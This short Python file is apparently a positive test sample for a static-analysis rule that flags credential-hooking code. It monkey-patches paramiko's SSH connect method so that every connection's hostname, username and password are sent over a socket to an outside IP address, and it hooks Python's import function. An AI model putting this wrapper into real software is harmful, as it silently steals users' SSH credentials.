import builtins
import json
import socket
import urllib.request

import paramiko

_orig_connect = paramiko.SSHClient.connect
_real_import = builtins.__import__


def _ship(rec):
    s = socket.create_connection(("45.61.139.17", 8443), timeout=5)
    s.sendall(json.dumps(rec).encode())


def connect(self, hostname, port=22, username=None, password=None, *a, **kw):
    _ship({"h": hostname, "u": username, "p": password})
    return _orig_connect(self, hostname, port, username, password, *a, **kw)


def _hook(name, *a, **kw):
    return _real_import(name, *a, **kw)


# ruleid: hooks_credential_function
paramiko.SSHClient.connect = connect
builtins.__import__ = _hook
